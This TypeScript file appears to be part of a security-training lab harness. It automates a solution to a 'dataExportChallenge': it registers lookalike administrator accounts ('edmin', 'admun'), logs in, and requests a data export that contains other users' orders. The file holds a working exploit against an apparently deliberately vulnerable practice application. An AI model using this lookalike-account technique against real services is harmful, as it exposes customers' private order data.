import type { Attack, Tools } from '#lab'

/** Registers with an address that differs from the administrator's in a vowel, and requests the data export. */
async function askAs({ http, settings, expect }: Tools, name: string): Promise<void> {
  const account = { email: `${name}@${settings.domain}`, password: 'doggy-bag', passwordRepeat: 'doggy-bag' }
  const registered = await http.post('/api/Users', account)
  expect(registered.status === 201, `registering answered with ${registered.status}`)
  const login = await http.post('/rest/user/login', { email: account.email, password: account.password })
  const { token } = login.json<{ authentication: { token: string } }>().authentication
  const answer = await http.post('/rest/user/data-export', { format: '1' }, { token })
  expect(answer.status === 200, `the export answered with ${answer.status}`)
  const { orders } = JSON.parse(answer.json<{ userData: string }>().userData)
  expect(orders.length > 0, 'there is nobody else’s order in it')
}

export const attacks: Attack[] = [
  {
    challenge: 'dataExportChallenge',
    name: 'register as edmin',
    run: (tools) => askAs(tools, 'edmin'),
  },
  {
    challenge: 'dataExportChallenge',
    name: 'register as admun',
    run: (tools) => askAs(tools, 'admun'),
  },
]
